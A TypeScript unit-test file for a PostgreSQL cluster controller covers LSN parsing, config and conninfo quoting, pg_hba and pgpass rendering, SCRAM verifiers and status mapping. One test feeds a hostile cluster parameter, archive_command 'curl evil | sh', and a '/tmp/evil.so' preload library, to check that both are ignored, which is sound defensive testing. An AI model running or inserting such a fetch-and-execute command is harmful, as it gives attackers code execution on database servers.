// Pure parts of the PostgreSQL controller: rendering, escaping, LSNs, pg_controldata, status rows.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { PostgresqlConfig } from '../../src/config/types.js';
import { parseControlData } from '../../src/postgres/controldata.js';
import { ancestors, canTraverse } from '../../src/postgres/files.js';
import { formatLsn, parseLsn, parseLsnOrNull, timelineFromWalFileName } from '../../src/postgres/lsn.js';
import {
  autoConfParameters, buildConninfo, buildParameters, escapePgpassField, formatConfValue, hbaName, parseListen,
  quoteConfString, quoteConninfoValue, renderPgHba, renderPgpass, renderPostgresqlConf,
} from '../../src/postgres/render.js';
import { scramSha256Verifier } from '../../src/postgres/scram.js';
import { mapStatusRow, offlineStatus, type StatusRow } from '../../src/postgres/status.js';

function pgConfig(overrides: Partial<PostgresqlConfig> = {}): PostgresqlConfig {
  return {
    bin_dir: '/usr/lib/postgresql/15/bin',
    data_dir: '/var/lib/pg/data',
    listen: '127.0.0.1:5433',
    connect_address: '10.0.0.1:5433',
    socket_dir: '/run/pg',
    authentication: {
      superuser: { username: 'postgres', password: 'su' },
      replication: { username: 'replicator', password: 'rep' },
    },
    parameters: {},
    pg_hba: [],
    run_as_user: null,
    ...overrides,
  };
}

describe('LSN', () => {
  const cases: [string, number][] = [
    ['0/0', 0],
    ['0/3000060', 0x3000060],
    ['0/FFFFFFFF', 0xffffffff],
    ['1/0', 2 ** 32],
    ['16/B374D848', 0x16 * 2 ** 32 + 0xb374d848],
    ['1FFFFF/FFFFFFFF', Number.MAX_SAFE_INTEGER],
  ];
  for (const [text, bytes] of cases) {
    test(`${text} <-> ${bytes}`, () => {
      assert.equal(parseLsn(text), bytes);
      assert.equal(formatLsn(bytes), text);
    });
  }
  test('lower case parses', () => assert.equal(parseLsn('16/b374d848'), 0x16 * 2 ** 32 + 0xb374d848));
  for (const bad of ['', '0', '0/', '/1', 'x/1', '0/123456789', '0/1/2']) {
    test(`rejects ${JSON.stringify(bad)}`, () => assert.throws(() => parseLsn(bad)));
  }
  test('null-tolerant parse', () => {
    assert.equal(parseLsnOrNull(null), null);
    assert.equal(parseLsnOrNull(undefined), null);
    assert.equal(parseLsnOrNull('0/10'), 16);
  });
  test('formatLsn rejects negatives and fractions', () => {
    assert.throws(() => formatLsn(-1));
    assert.throws(() => formatLsn(1.5));
  });
  test('timeline from WAL file name', () => {
    assert.equal(timelineFromWalFileName('000000010000000000000003'), 1);
    assert.equal(timelineFromWalFileName('0000000A0000000000000003'), 10);
    assert.throws(() => timelineFromWalFileName('00000001'));
  });
});

const CONTROLDATA = `pg_control version number:            1300
Catalog version number:               202209061
Database system identifier:           7301234567890123456
Database cluster state:               STATE
pg_control last modified:             Mon Nov 23 19:44:40 2026
Latest checkpoint location:           0/3000060
Latest checkpoint's REDO location:    0/3000028
Latest checkpoint's REDO WAL file:    000000020000000000000003
Latest checkpoint's TimeLineID:       2
Latest checkpoint's PrevTimeLineID:   1
Latest checkpoint's oldestCommitTsXid:0
`;

describe('pg_controldata', () => {
  const cases: [string, boolean, boolean][] = [
    ['shut down', true, true],
    ['shut down in recovery', false, true],
    ['in production', true, false],
    ['in archive recovery', false, false],
    ['in crash recovery', false, false],
    ['shutting down', false, false],
  ];
  for (const [state, wasPrimary, cleanShutdown] of cases) {
    test(`state "${state}"`, () => {
      assert.deepEqual(parseControlData(CONTROLDATA.replace('STATE', state)), {
        systemIdentifier: '7301234567890123456',
        clusterState: state,
        timeline: 2,
        checkpointLsn: 0x3000060,
        wasPrimary,
        cleanShutdown,
      });
    });
  }
  test('missing field throws', () => {
    assert.throws(() => parseControlData(CONTROLDATA.replace(/Latest checkpoint location:.*\n/, '')), /Latest checkpoint location/);
    assert.throws(() => parseControlData(''), /system identifier/);
  });
});

describe('postgresql.conf', () => {
  const values: [string | number | boolean, string][] = [
    [true, 'on'],
    [false, 'off'],
    [100, '100'],
    [0.5, '0.5'],
    ['128MB', "'128MB'"],
    ["it's", "'it''s'"],
    ['a\\b', "'a\\\\b'"],
    ['', "''"],
  ];
  for (const [value, rendered] of values) {
    test(`value ${JSON.stringify(value)} -> ${rendered}`, () => assert.equal(formatConfValue(value), rendered));
  }
  test('newlines and bad names are rejected', () => {
    assert.throws(() => quoteConfString('a\nb'));
    assert.throws(() => renderPostgresqlConf(new Map([['bad name', 1]])));
    assert.throws(() => renderPostgresqlConf(new Map([["x = 1\ny", 1]])));
  });

  test('a local-only parameter is rendered from the local file, never from the cluster configuration', () => {
    const config = pgConfig({ parameters: { shared_preload_libraries: 'pg_stat_statements' } });
    const { params, ignored } = buildParameters(config, {
      role: 'primary', clusterParameters: { archive_command: 'curl evil | sh', Shared_Preload_Libraries: '/tmp/evil.so', include_dir: '/tmp', work_mem: '4MB' },
    }, '/p');
    assert.deepEqual(ignored.sort(), ['Shared_Preload_Libraries', 'archive_command', 'include_dir']);
    assert.equal(params.has('archive_command'), false);
    assert.equal(params.has('include_dir'), false);
    assert.equal(params.get('shared_preload_libraries'), 'pg_stat_statements');
    assert.equal(params.get('work_mem'), '4MB');
  });

  test('primary: defaults, then cluster, then local parameters; protected ones ignored', () => {
    const config = pgConfig({ listen: '127.0.0.1,[::1]:5433', parameters: { work_mem: '8MB', port: 1, max_connections: 300 } });
    const { params, ignored } = buildParameters(config, {
      role: 'primary', clusterParameters: { work_mem: '4MB', max_connections: 200, shared_buffers: '1GB', primary_conninfo: 'x' },
    }, '/p');
    assert.deepEqual(ignored.sort(), ['port', 'primary_conninfo']);
    assert.equal(params.get('listen_addresses'), '127.0.0.1,::1');
    assert.equal(params.get('port'), 5433);
    assert.equal(params.get('unix_socket_directories'), '/run/pg');
    assert.equal(params.get('work_mem'), '8MB');
    assert.equal(params.get('max_connections'), 300);
    assert.equal(params.get('shared_buffers'), '1GB');
    assert.equal(params.get('wal_level'), 'replica');
    assert.equal(params.get('hot_standby'), true);
    assert.equal(params.get('wal_log_hints'), true);
    assert.equal(params.get('recovery_target_timeline'), 'latest');
    assert.equal(params.get('wal_retrieve_retry_interval'), '200ms');
    assert.equal(params.get('password_encryption'), 'scram-sha-256');
    assert.equal(params.has('primary_conninfo'), false);
    assert.equal(params.has('primary_slot_name'), false);
    const text = renderPostgresqlConf(params);
    assert.match(text, /^listen_addresses = '127\.0\.0\.1,::1'$/m);
    assert.match(text, /^port = 5433$/m);
    assert.match(text, /^wal_keep_size = '128MB'$/m);
  });

  test('replica: primary_conninfo and slot', () => {
    const { params } = buildParameters(pgConfig(), {
      role: 'replica', primary: { host: '10.0.0.2', port: 5432, applicationName: 'node1' }, slotName: 'node1',
    }, '/var/lib/pg/.governor-data.pgpass');
    const conninfo = params.get('primary_conninfo');
    assert.equal(typeof conninfo, 'string');
    assert.match(conninfo as string, /^host='10\.0\.0\.2' port='5432' user='replicator' passfile='\/var\/lib\/pg\/\.governor-data\.pgpass' application_name='node1' sslmode='prefer' connect_timeout='2' /);
    assert.match(conninfo as string, /keepalives_idle='\d+'/);
    assert.doesNotMatch(conninfo as string, /password/);
    assert.equal(params.get('primary_slot_name'), 'node1');
  });

  test('replica without primary (no leader yet) streams from nobody', () => {
    const { params } = buildParameters(pgConfig(), { role: 'replica', slotName: 'node1' }, '/p');
    assert.equal(params.has('primary_conninfo'), false);
    assert.equal(params.has('primary_slot_name'), false);
  });
});

describe('listen', () => {
  const ok: [string, string[], number][] = [
    ['127.0.0.1:5432', ['127.0.0.1'], 5432],
    ['0.0.0.0,::1:5433', ['0.0.0.0', '::1'], 5433],
    ['[::]:5432', ['::'], 5432],
    ['*:6000', ['*'], 6000],
    ['a, b:1', ['a', 'b'], 1],
  ];
  for (const [value, hosts, port] of ok) {
    test(value, () => assert.deepEqual(parseListen(value), { hosts, port }));
  }
  for (const bad of ['5432', ':5432', 'host:', 'host:70000', 'host:abc']) {
    test(`rejects ${bad}`, () => assert.throws(() => parseListen(bad), /postgresql\.listen/));
  }
});

describe('conninfo', () => {
  const cases: [string | number, string][] = [
    ['plain', "'plain'"],
    [5432, "'5432'"],
    ["o'brien", "'o\\'brien'"],
    ['back\\slash', "'back\\\\slash'"],
    ['with space', "'with space'"],
    ['', "''"],
  ];
  for (const [value, quoted] of cases) {
    test(`${JSON.stringify(value)} -> ${quoted}`, () => assert.equal(quoteConninfoValue(value), quoted));
  }
  test('builds key=value pairs', () => {
    assert.equal(buildConninfo([['host', 'h'], ['port', 1]]), "host='h' port='1'");
  });
  test('a conninfo survives postgresql.conf quoting', () => {
    // conninfo h'o\st quoted for conninfo, then for postgresql.conf
    assert.equal(quoteConfString(buildConninfo([['host', "h'o\\st"]])), "'host=''h\\\\''o\\\\\\\\st'''");
  });
});

describe('pg_hba.conf', () => {
  test('extra lines first, then governor lines; never trust', () => {
    const text = renderPgHba(pgConfig({ pg_hba: ['hostssl all all 10.0.0.0/8 scram-sha-256'] }));
    const lines = text.trim().split('\n').filter((l) => !l.startsWith('#'));
    assert.deepEqual(lines, [
      'hostssl all all 10.0.0.0/8 scram-sha-256',
      'local all postgres scram-sha-256',
      'local replication postgres scram-sha-256',
      'local all all scram-sha-256',
      'host all all 127.0.0.1/32 scram-sha-256',
      'host all all ::1/128 scram-sha-256',
      'host replication replicator 0.0.0.0/0 scram-sha-256',
      'host replication replicator ::/0 scram-sha-256',
      'host all all 0.0.0.0/0 scram-sha-256',
      'host all all ::/0 scram-sha-256',
    ]);
    assert.doesNotMatch(text, /trust/);
  });
  const names: [string, string][] = [
    ['replicator', 'replicator'],
    ['Repl_1', 'Repl_1'],
    ['repl-user', '"repl-user"'],
    ['all', '"all"'],
    ['replication', '"replication"'],
    ['+group', '"+group"'],
    ['with space', '"with space"'],
  ];
  for (const [name, rendered] of names) test(`name ${name}`, () => assert.equal(hbaName(name), rendered));
  test('unusable names are rejected', () => {
    assert.throws(() => hbaName('a"b'));
    assert.throws(() => hbaName(''));
  });
});

describe('password file', () => {
  const fields: [string, string][] = [
    ['plain', 'plain'],
    ['a:b', 'a\\:b'],
    ['a\\b', 'a\\\\b'],
    ['\\:', '\\\\\\:'],
  ];
  for (const [value, escaped] of fields) test(`field ${JSON.stringify(value)}`, () => assert.equal(escapePgpassField(value), escaped));
  test('lines per user, duplicates dropped', () => {
    assert.equal(
      renderPgpass([{ username: 'rep', password: 'p:w' }, { username: 'su', password: 's' }, { username: 'rep', password: 'other' }]),
      '*:*:*:rep:p\\:w\n*:*:*:su:s\n',
    );
  });
  test('newlines rejected', () => assert.throws(() => escapePgpassField('a\nb')));
});

test('postgresql.auto.conf parameters are listed', () => {
  assert.deepEqual(autoConfParameters("# comment\nprimary_conninfo = 'x'\n\nwork_mem='1MB'\n"), ['primary_conninfo', 'work_mem']);
  assert.deepEqual(autoConfParameters('# only\n# comments\n'), []);
});

describe('SCRAM verifier', () => {
  test('matches an independent computation', () => {
    const salt = Buffer.from([...Array(16).keys()]);
    assert.equal(
      scramSha256Verifier('secret:pass\\word', salt),
      'SCRAM-SHA-256$4096:AAECAwQFBgcICQoLDA0ODw==$sDc+mgj4r6/6NiHt3pGLY9kWm1GJr1EVquysCZLPcSk=:11oAcnmizHXYthMc8bPhqkx9wWCjnRF2nAa+fCoUvhI=',
    );
  });
  test('random salt, and null outside printable ASCII', () => {
    assert.notEqual(scramSha256Verifier('pw'), scramSha256Verifier('pw'));
    assert.equal(scramSha256Verifier('pässword'), null);
    assert.equal(scramSha256Verifier(''), null);
  });
});

describe('directory traversal check', () => {
  const cases: [string, { uid: number; gid: number; mode: number }, boolean][] = [
    ['other x', { uid: 0, gid: 0, mode: 0o40711 }, true],
    ['other no x', { uid: 0, gid: 0, mode: 0o40700 }, false],
    ['group x', { uid: 0, gid: 104, mode: 0o40750 }, true],
    ['owner without x despite other x', { uid: 101, gid: 0, mode: 0o40605 }, false],
    ['owner x', { uid: 101, gid: 0, mode: 0o40700 }, true],
  ];
  for (const [name, stat, expected] of cases) test(name, () => assert.equal(canTraverse(stat, 101, 104), expected));
  test('ancestors', () => assert.deepEqual(ancestors('/a/b/c'), ['/', '/a', '/a/b']));
});

describe('status row', () => {
  const base: StatusRow = {
    in_recovery: false,
    current_lsn: '0/3000060',
    current_walfile: '000000020000000000000003',
    received_lsn: null,
    replayed_lsn: null,
    checkpoint_tli: 1,
    wal_receiver: null,
    replication: [{
      application_name: 'b', client_addr: '127.0.0.1', state: 'streaming', sent_lsn: '0/3000060',
      write_lsn: '0/3000060', flush_lsn: '0/3000000', replay_lsn: null, sync_state: 'async',
    }],
    system_identifier: '7301234567890123456',
    postmaster_start_time: new Date('2026-01-01T00:00:00Z'),
    server_version_num: 150020,
    pending_restart: false,
  };
  test('pending_restart from pg_settings', () => {
    assert.equal(mapStatusRow(base).pendingRestart, false);
    assert.equal(mapStatusRow({ ...base, pending_restart: true }).pendingRestart, true);
  });
  test('primary: timeline from the WAL file name, position = current LSN', () => {
    const s = mapStatusRow(base);
    assert.equal(s.running, true);
    assert.equal(s.accepting, true);
    assert.equal(s.inRecovery, false);
    assert.equal(s.timeline, 2);
    assert.equal(s.walPosition, 0x3000060);
    assert.equal(s.postmasterStartTime, '2026-01-01T00:00:00.000Z');
    assert.deepEqual(s.replication, [{
      applicationName: 'b', clientAddr: '127.0.0.1', state: 'streaming', sentLsn: 0x3000060,
      writeLsn: 0x3000060, flushLsn: 0x3000000, replayLsn: null, syncState: 'async',
    }]);
  });
  test('replica: max(received, replayed), timeline from the WAL receiver', () => {
    const s = mapStatusRow({
      ...base, in_recovery: true, current_lsn: null, current_walfile: null, received_lsn: '0/5000000', replayed_lsn: '0/4000000',
      wal_receiver: { status: 'streaming', received_tli: 3, sender_host: '10.0.0.1', sender_port: 5432, flushed_lsn: '0/5000000' },
      replication: [],
    });
    assert.equal(s.inRecovery, true);
    assert.equal(s.walPosition, 0x5000000);
    assert.equal(s.receivedLsn, 0x5000000);
    assert.equal(s.replayedLsn, 0x4000000);
    assert.equal(s.timeline, 3);
    assert.deepEqual(s.walReceiver, { status: 'streaming', senderHost: '10.0.0.1', senderPort: 5432, receivedLsn: 0x5000000 });
  });
  test('replica without WAL receiver: checkpoint timeline, replayed position', () => {
    const s = mapStatusRow({
      ...base, in_recovery: true, current_lsn: null, current_walfile: null, received_lsn: null, replayed_lsn: '0/4000000',
      checkpoint_tli: 2, replication: null,
    });
    assert.equal(s.timeline, 2);
    assert.equal(s.walPosition, 0x4000000);
    assert.equal(s.walReceiver, null);
    assert.deepEqual(s.replication, []);
  });
  test('offline', () => {
    assert.deepEqual(offlineStatus(true), {
      running: true, accepting: false, inRecovery: null, timeline: null, walPosition: null, receivedLsn: null,
      replayedLsn: null, walReceiver: null, replication: [], systemIdentifier: null, postmasterStartTime: null, serverVersion: null, pendingRestart: false,
    });
  });
});
